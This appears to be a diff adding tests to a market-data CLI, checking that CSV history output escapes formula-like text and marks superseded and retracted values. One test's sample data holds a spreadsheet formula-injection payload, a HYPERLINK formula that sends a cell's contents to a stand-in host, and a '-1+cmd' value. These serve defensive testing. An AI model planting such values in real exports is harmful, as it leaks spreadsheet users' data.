@@ -2,6 +2,7 @@
 import { join } from 'node:path';
 import { afterAll, beforeAll, describe, expect, test } from 'vitest';
 import { type ServerProcess, startServer } from '../embedded/server-process.ts';
+import { market, price } from '../publisher/world.ts';
 import { makeTemporaryFolder } from '../storage/temporary-folder.ts';
 import { type Run, tidemark, tidemarkOnTerminal } from './tidemark.ts';
 
@@ -110,6 +111,49 @@ test('publish waits for the generation', async () => {
 test('publish of an unknown market is refused, with the place', async () => {
   const { code, errors } = await run('publish', 'no-such-market');
   expect([code, errors]).toEqual([3, expect.stringContaining('no-such-market')]);
+});
+
+const ingest = (records: readonly unknown[]) =>
+  tidemark(['ingest', '-', '--data', data], { input: records.map((record) => `${JSON.stringify(record)}\n`).join('') });
+
+test('history --csv gives texts that a spreadsheet would take for formulas an apostrophe, and no number', async () => {
+  const label = '=HYPERLINK("https://x.example?"&A1)';
+  const values = [price('formulas', 0, -3698), price('formulas', 1, 100)];
+  const labels = [label, '-1+cmd'];
+  const records = values.map((record, index) => ({ ...(record as object), sourceLabel: labels[index] }));
+  const taken = await ingest([market('formulas'), ...records]);
+  expect(taken.code, taken.errors).toBe(0);
+  const [, newest = '', first = ''] = linesOf(await run('markets', 'history', 'formulas', '--csv'));
+  expect(first).toMatch(/^[^,]+,price,-36\.98,USD,-36\.98,-3698,/);
+  expect(first).toContain(`,"'=HYPERLINK(""https://x.example?""&A1)",https://`);
+  expect(newest).toContain(",'-1+cmd,https://");
+  expect((await run('markets', 'history', 'formulas', '--ndjson')).output).toContain(JSON.stringify(label));
+  expect((await run('markets', 'history', '--help')).output).toContain('apostrophe');
+});
+
+test('the table of a history says which values were superseded and retracted, and how', async () => {
+  const values = [0, 1, 2, 3].map((day) => price('remarks', day, 100 + day) as object);
+  const retracted = (day: number, kind: string) => {
+    const { market, metric, observedAt, sourceUrl } = values[day] as Readonly<Record<string, string>>;
+    return { type: 'retraction', kind, market, metric, observedAt, sourceUrl, reason: 'A misprint.' };
+  };
+  const taken = await ingest([market('remarks'), ...values]);
+  expect(taken.code, taken.errors).toBe(0);
+  expect(taken.errors).toContain('Readers behind caches may get the values before it for up to 15 seconds.');
+  expect((await ingest([retracted(1, 'mistake'), retracted(2, 'withdrawn')])).code).toBe(0);
+  const lines = linesOf(await run('markets', 'history', 'remarks')).map((line) => line.split('\t'));
+  const remarks = lines.map((cells) => [cells[2], cells[7] ?? '']);
+  expect(remarks).toHaveLength(6);
+  expect(remarks).toEqual(
+    expect.arrayContaining([
+      ['1.03', ''],
+      ['unknown: withheld', 'withdrawn by the source'],
+      ['1.02', 'superseded'],
+      ['unknown: not-applicable', 'retracted: mistake'],
+      ['1.01', 'superseded'],
+      ['1.00', ''],
+    ]),
+  );
 });
 
 test('a reader that goes away ends the command without an error', async () => {
